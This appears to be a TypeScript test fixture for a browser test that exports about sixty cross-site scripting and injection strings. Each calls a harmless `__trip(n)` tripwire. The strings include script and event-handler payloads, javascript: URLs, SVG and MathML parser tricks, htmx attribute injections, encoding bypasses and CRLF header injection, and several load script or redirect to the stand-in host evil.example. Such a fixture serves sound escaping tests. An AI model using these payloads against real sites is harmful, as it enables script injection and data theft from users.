/**
 * Texts that run, load or rewrite something wherever they are not escaped. `__trip(n)` is the
 * tripwire of the browser's test; elements that they bring along carry `data-trip`.
 */
const written = [
  '<script>__trip()</script>',
  '<script src=//evil.example/x.js data-trip></script>',
  '<img src=x onerror=__trip() data-trip>',
  '"><img src=x onerror=__trip() data-trip>',
  "'><img src=x onerror=__trip() data-trip>",
  "' onfocus=__trip() autofocus tabindex=0 data-trip x='",
  '" onmouseover="__trip()" data-trip="',
  '` onclick=__trip() data-trip `',
  'x onclick=__trip() data-trip',
  '&quot; onclick=&quot;__trip()&quot; data-trip=&quot;',
  'javascript:__trip()',
  ' java\tscript:__trip()',
  'JaVaScRiPt://%0a__trip()',
  'data:text/html,<script>top.__trip()</script>',
  'vbscript:__trip()',
  '//evil.example/x',
  '</title><script>__trip()</script>',
  '</textarea></pre></code></bdi></svg><script>__trip()</script>',
  '--!><script>__trip()</script><!--',
  ']]><script>__trip()</script><![CDATA[',
  '<svg onload=__trip() data-trip><animate onbegin=__trip() attributeName=x dur=1s>',
  '<svg><script href=data:text/javascript,__trip() data-trip /></svg>',
  '<svg><a xlink:href=javascript:__trip() data-trip><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__trip() data-trip></style>',
  '<math href=javascript:__trip() data-trip>x</math>',
  '<iframe srcdoc="<script>parent.__trip()</script>" data-trip></iframe>',
  '<object data="javascript:__trip()" data-trip></object><embed src=//evil.example data-trip>',
  '<details open ontoggle=__trip() data-trip>x</details>',
  '<video><source onerror=__trip() data-trip></video><audio src=x onerror=__trip() data-trip>',
  '<template data-trip><script>__trip()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__trip() data-trip>">',
  '<style data-trip>*{background:url(//evil.example/x)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css data-trip>',
  '<meta http-equiv=refresh content="0;url=//evil.example" data-trip>',
  '<base href=//evil.example/ data-trip>',
  '<form action=//evil.example data-trip><button formaction=javascript:__trip()>x</button></form>',
  '<input name=status form=status value=x data-trip><i id=toasts data-trip></i>',
  '<a hx-get=/tripped hx-trigger=load data-trip>x</a>',
  '" hx-get="/tripped" hx-trigger="load" data-trip="',
  '<b hx-on:click=__trip() hx-on::after-process=__trip() data-trip>x</b>',
  '<b hx-trigger="load[__trip()]" hx-get=/tripped data-trip>x</b>',
  '<b hx-vals="js:{x:__trip()}" hx-post=/tripped hx-trigger=load data-trip>x</b>',
  '<hx-partial hx-target=body hx-swap=innerHTML><b onclick=__trip() data-trip>x</b></hx-partial>',
  '<template hx type=partial hx-target=body data-trip><img src=x onerror=__trip()></template>',
  '<div hx-swap-oob=true id=main data-trip><img src=x onerror=__trip()></div>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the injections
  "{{constructor.constructor('__trip()')()}} ${__trip()} #{__trip()} <%= __trip() %>",
  '&lt;script&gt;__trip()&lt;/script&gt; &#60;img src=x onerror=__trip() data-trip&#62;',
  '\\u003cscript\\u003e__trip()\\u003c/script\\u003e \\x3cimg src=x onerror=__trip()\\x3e',
  '%3Cscript%3E__trip()%3C/script%3E %22%3E%3Cimg src=x onerror=__trip()%3E',
  '＜script＞__trip()＜/script＞ ＂onclick＝__trip()',
  '\u202e<script>__trip()</script>\u2066\u2028\u2029\ufeff',
  '<scr\u0000ipt>__trip()</scr\u0000ipt><img src=x one\u0000rror=__trip() data-trip>',
  '<img src=x onerror\u000c=\u000c__trip() data-trip \ud800>',
  '[redacted "><script>__trip()</script>]',
  '"[redacted <img src=x onerror=__trip() data-trip>]"',
  'a@b.example?bcc=evil@evil.example&body=<script>__trip()</script>',
  'a@b.example,evil@evil.example\r\nBcc: evil@evil.example',
  '\r\nset-cookie: trip=1\r\n\r\n<script>__trip()</script>',
  `${'<'.repeat(150)}img src=x onerror=__trip() data-trip>`,
]

/** The same, each with the number that its tripwire tells. */
export const payloads: string[] = written.map((text, n) =>
  text.replaceAll('__trip()', `__trip(${n})`),
)

/** Harmless, of about the same shape: two words. */
export const harmless = 'two words'
